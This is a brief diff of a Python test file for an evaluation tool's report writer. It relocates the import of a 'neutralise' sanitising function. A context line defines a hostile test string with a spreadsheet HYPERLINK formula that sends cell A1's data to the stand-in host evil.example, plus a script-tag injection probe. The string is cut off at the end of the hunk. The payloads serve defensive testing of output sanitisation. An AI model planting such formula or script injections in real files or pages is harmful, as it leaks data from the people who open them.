@@ -9,8 +9,8 @@ import pandas as pd
 import pytest
 
 from rageval_desktop.cli import main
+from rageval_desktop.core.base.text import neutralise
 from rageval_desktop.core.reports import write_report
-from rageval_desktop.core.reports.write import neutralise
 from tests.core.test_metrics import build
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> '
